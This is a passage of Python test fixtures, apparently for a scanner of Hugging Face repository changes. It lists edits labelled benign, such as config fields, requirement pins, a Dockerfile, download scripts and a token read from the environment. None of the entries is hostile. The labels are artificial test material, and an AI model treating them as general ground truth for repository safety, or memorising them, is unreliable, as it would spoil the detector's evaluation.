        LabelledChange("ordinary configuration", "config.json", _config(torch_dtype="bfloat16", transformers_version="5.24.0")),
        LabelledChange("attention", "config.json", _config(_attn_implementation="flash_attention_2"), old),
        LabelledChange("trust off", "config.json", _config(trust_remote_code=False), old),
        LabelledChange("tokenizer", "tokenizer_config.json", '{"vocab_file": "vocab.txt", "merges_file": null, "tokenizer_file": "tokenizer.json"}'),
        LabelledChange("path of the library's cache", "tokenizer_config.json", '{"tokenizer_file": "/home/u/.cache/huggingface/transformers/0123456789abcdef0123456789abcdef.abc"}'),
        LabelledChange("pipeline", "model_index.json", index),
        LabelledChange("modules", "modules.json", '[{"idx": 0, "type": "sentence_transformers.models.Transformer"}]'),
        LabelledChange("dense layer", "2_Dense/config.json", '{"activation_function": "torch.nn.modules.activation.Tanh"}'),
        LabelledChange("adapter", "adapter_config.json", '{"base_model_name_or_path": "meta/llama", "auto_mapping": null, "peft_type": "LORA"}'),
        LabelledChange("adapter of the same owner", "adapter_config.json", '{"base_model_name_or_path": "meta/llama-2"}', '{"base_model_name_or_path": "meta/llama-1"}'),
        LabelledChange("base removed", "adapter_config.json", '{"base_model_name_or_path": null}', '{"base_model_name_or_path": "meta/llama-1"}'),
        LabelledChange("NeMo", "model_config.yaml", "optim:\n  _target_: torch.optim.AdamW\nmodel:\n  _target_: nemo.collections.asr.models.Ctc\n", "optim: {}\n"),
        LabelledChange("training configuration", "config.yaml", "lr: 1e-4\nsteps: no\ndate: 2026-01-01\n", "lr: 1e-3\n"),
        LabelledChange("two documents", "params.yml", "a: 1\n---\nb: [1, 2, {c: d}]\n"),
        LabelledChange("link to a paper", "config.json", _config(paper="https://arxiv.org/abs/1706.03762"), old),
        LabelledChange("generation", "generation_config.json", '{"do_sample": true, "temperature": 0.7}', "{}"),
        LabelledChange("data as JSON", "data/train.json", '[{"text": "__reduce", "file": "a.png"}]'),
        LabelledChange("pinned version", "requirements.txt", f"{requirements}einops==0.8.1\n", requirements, "", "space"),
        LabelledChange("newer version", "requirements.txt", "torch==2.10.0\ntransformers==5.24.0\n", requirements, "", "space"),
        LabelledChange("well-known name", "requirements.txt", f"{requirements}accelerate\n", requirements, "", "space"),
        LabelledChange("pinned new name", "requirements.txt", f"{requirements}acme-tools==1.2.3\n", requirements, "", "space"),
        LabelledChange("index of torch", "requirements.txt", f"--extra-index-url https://download.pytorch.org/whl/cu126\n{requirements}", requirements, "", "space"),
        LabelledChange("first requirements", "requirements.txt", "torch>=2\nmy-own-package\n# comment\n-r other.txt\nnumpy<3 ; python_version<'4'\n", None, "", "space"),
        LabelledChange("similar real names", "requirements.txt", "boto\npypdf\npypdf2\nflask\nfaiss-cpu\nopencv-python\npsycopg\nscikit-image\njaxlib\ntorchao\nrich\nnumba\nnumpy\npandas\npolars\n", None, "", "space"),
        LabelledChange("git of a known owner", "requirements.txt", "git+https://github.com/huggingface/transformers\n", None, "", "space"),
        LabelledChange("project", "pyproject.toml", '[project]\nname = "x"\nversion = "1"\ndependencies = ["torch>=2", "einops"]\n', None),
        LabelledChange("conda", "environment.yml", "name: x\nchannels:\n  - conda-forge\ndependencies:\n  - python=3.12\n  - pip:\n    - torch\n", None),
        LabelledChange("packages", "packages.txt", "ffmpeg\nlibsm6\n", "ffmpeg\n", "", "space"),
        LabelledChange("image", "Dockerfile", "FROM python:3.12\nWORKDIR /app\nRUN apt-get update && apt-get install -y curl git\nRUN pip install --no-cache-dir -r requirements.txt\nCOPY . .\n", "FROM python:3.12\n", "", "space"),
        LabelledChange("script", "train.sh", "#!/bin/bash\nset -e\nexport WANDB_DISABLED=true\npython train.py --model acme/m\ncurl -O https://files.invalid/data.zip\nunzip data.zip\n", "#!/bin/bash\n"),
        LabelledChange("download of data", "get.sh", "wget https://huggingface.co/acme/m/resolve/main/x.bin -O x.bin\nhf download acme/m\n", "wget x\n"),
        LabelledChange("notebook", "demo.ipynb", json.dumps({"cells": [{"cell_type": "code", "source": "!pip install torch\n%matplotlib inline\nimport torch"}, {"cell_type": "markdown", "source": "# x"}]}), None),
        LabelledChange("app without secrets", "app.py", "import gradio as gr\n", "", "", "space"),
        LabelledChange("text of a Space with secrets", "README.md", f"{card}\nText.\n", card, "", "space", {}, holds_secrets=True),
        LabelledChange("title of a Space", "README.md", card.replace("title: App", "title: Better"), card, "", "space"),
        LabelledChange("client with a token", "app.py", "import os\nfrom huggingface_hub import InferenceClient\nc = InferenceClient(token=os.getenv('HF_TOKEN'))\n", "import os\n", "", "space"),
    ]  # fmt: skip


BENIGN: list[LabelledChange] = _benign()
